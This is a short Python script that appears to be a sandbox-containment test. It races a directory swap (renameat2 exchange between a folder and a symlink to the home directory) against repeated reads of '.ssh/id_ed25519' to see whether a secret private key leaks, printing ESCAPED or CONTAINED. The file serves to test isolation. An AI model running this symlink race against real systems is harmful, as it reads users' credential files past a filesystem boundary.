"""Exchange a folder for a link to the home, again and again, while another thread opens what lies beneath.

wall: files
"""

import ctypes
import json
import os
import threading

scene = json.loads(os.environ["SCENE"])
libc = ctypes.CDLL(None)
exchange, here = 2, -100
os.makedirs("flip/.ssh", exist_ok=True)
open("flip/.ssh/id_ed25519", "w").close()
os.path.islink("flop") or os.symlink(scene["home"], "flop")
done = threading.Event()


def swap():
    while not done.is_set():
        libc.renameat2(here, b"flip", here, b"flop", exchange)


thread = threading.Thread(target=swap)
thread.start()
found = False
for _ in range(3000):
    try:
        with open("flip/.ssh/id_ed25519") as file:
            found = found or scene["secret"] in file.read()
    except OSError:
        continue
done.set()
thread.join()
print("ESCAPED" if found else "CONTAINED")
